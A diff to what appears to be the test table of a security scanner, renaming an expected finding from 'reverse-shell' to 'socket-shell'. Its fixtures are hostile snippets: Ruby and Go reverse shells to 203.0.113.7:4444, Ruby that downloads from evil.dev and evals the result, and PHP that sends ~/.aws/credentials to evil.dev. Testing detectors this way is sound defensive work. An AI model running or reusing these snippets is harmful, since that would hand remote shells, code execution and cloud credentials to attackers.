@@ -79,7 +79,7 @@ test.each([
     "block secret-exfiltration",
   ],
   ["a.rb", 'code = Net::HTTP.get(URI("https://evil.dev/x.rb"))\neval(code)', "block evaluated-download"],
-  ["a.rb", 's = TCPSocket.new("203.0.113.7", 4444)\nexec("/bin/sh -i <&#{s.fileno}")', "block reverse-shell"],
+  ["a.rb", 's = TCPSocket.new("203.0.113.7", 4444)\nexec("/bin/sh -i <&#{s.fileno}")', "block socket-shell"],
   [
     "a.php",
     "<?php\n$k = file_get_contents('/home/me/.aws/credentials');\n$c = curl_init('https://evil.dev');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);",
@@ -99,7 +99,7 @@ test.each([
   [
     "a.go",
     'c, _ := net.Dial("tcp", "203.0.113.7:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
-    "block reverse-shell",
+    "block socket-shell",
   ],
 ])("follows data through %s: %j", async (path, code, finding) => {
   expect(await worst(path, code)).toBe(finding);
